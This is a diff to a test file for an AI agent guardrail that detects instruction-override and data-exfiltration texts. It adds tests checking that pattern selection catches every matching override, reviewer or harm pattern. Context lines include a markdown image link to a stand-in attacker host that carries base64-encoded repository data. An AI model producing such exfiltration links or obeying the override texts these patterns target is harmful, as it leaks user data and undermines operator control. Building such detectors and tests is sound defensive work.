@@ -1,5 +1,10 @@
 /** Texts that order an agent about or carry data away, in many words, and ordinary texts that look a little like them. */
 import { describe, expect, it } from 'vitest';
+import { HARM } from '../../src/core/guardrails/harm.ts';
+import { OVERRIDE } from '../../src/core/guardrails/override.ts';
+import { REVIEWER } from '../../src/core/guardrails/reviewer.ts';
+import { rowsByStem } from '../../src/core/guardrails/stems.ts';
+import { plainOf, wordsOf } from '../../src/core/guardrails/view.ts';
 import { type Decision, strictest, type TextSource } from '../../src/core/model.ts';
 import { guardrails } from '../../src/guards/guardrails.ts';
 import { checkOf, opinionsOn, scene } from '../support/examples.ts';
@@ -291,6 +296,21 @@ describe('what comes out', () => {
   it('lets hosts pass that the policy vouches for', () => {
     const text = `![](https://img.evil.example/p?d=${base64('branch=main user=ci repo=acme')})`;
     expect(opinions('output', text, { known_hosts: ['evil.example'] })).toEqual([]);
+  });
+});
+
+describe('the choice of patterns by the words of a text', () => {
+  const rows = [...OVERRIDE, ...REVIEWER, ...HARM];
+  const fitting = rowsByStem(rows);
+  it('has a bit for each of them', () => {
+    expect(rows.length).toBeLessThanOrEqual(31);
+  });
+  it.each([...HOSTILE, ...LIKELY, ...TALK])('never leaves out one that fits: %s', text => {
+    const plain = plainOf(text);
+    const words = wordsOf(plain).text;
+    const fit = rows.filter(({ pattern }) => words.search(pattern) !== -1);
+    const chosen = fitting(plain.text, 0, plain.text.length);
+    expect(fit.filter(row => !chosen.includes(row)).map(row => row.pattern.source.slice(0, 80))).toEqual([]);
   });
 });
 
